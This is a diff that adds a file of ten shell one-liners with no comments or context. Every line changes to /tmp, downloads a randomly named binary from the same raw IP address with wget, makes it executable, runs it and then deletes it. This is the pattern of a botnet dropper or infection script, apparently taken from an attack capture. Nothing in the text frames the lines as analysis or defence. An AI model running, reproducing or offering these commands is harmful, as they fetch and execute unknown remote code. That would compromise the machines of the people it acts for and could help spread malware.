@@ -1,0 +1,10 @@
+cd /tmp; wget http://212.237.33.76/GHfjfgvj; chmod 777 GHfjfgvj; ./GHfjfgvj; rm -rf GHfjfgvj
+cd /tmp; wget http://212.237.33.76/JIPJIPJj; chmod 777 JIPJIPJj; ./JIPJIPJj; rm -rf JIPJIPJj
+cd /tmp; wget http://212.237.33.76/jhUOH; chmod 777 jhUOH; ./jhUOH; rm -rf jhUOH
+cd /tmp; wget http://212.237.33.76/RYrydry; chmod 777 RYrydry; ./RYrydry; rm -rf RYrydry
+cd /tmp; wget http://212.237.33.76/UYyuyioy; chmod 777 UYyuyioy; ./UYyuyioy; rm -rf UYyuyioy
+cd /tmp; wget http://212.237.33.76/XDzdfxzf; chmod 777 XDzdfxzf; ./XDzdfxzf; rm -rf XDzdfxzf
+cd /tmp; wget http://212.237.33.76/JIPJuipjh; chmod 777 JIPJuipjh; ./JIPJuipjh; rm -rf JIPJuipjh
+cd /tmp; wget http://212.237.33.76/DFhxdhdf; chmod 777 DFhxdhdf; ./DFhxdhdf; rm -rf DFhxdhdf
+cd /tmp; wget http://212.237.33.76/FDFDHFC; chmod 777 FDFDHFC; ./FDFDHFC; rm -rf FDFDHFC
+cd /tmp; wget http://212.237.33.76/FTUdftui; chmod 777 FTUdftui; ./FTUdftui; rm -rf FTUdftui
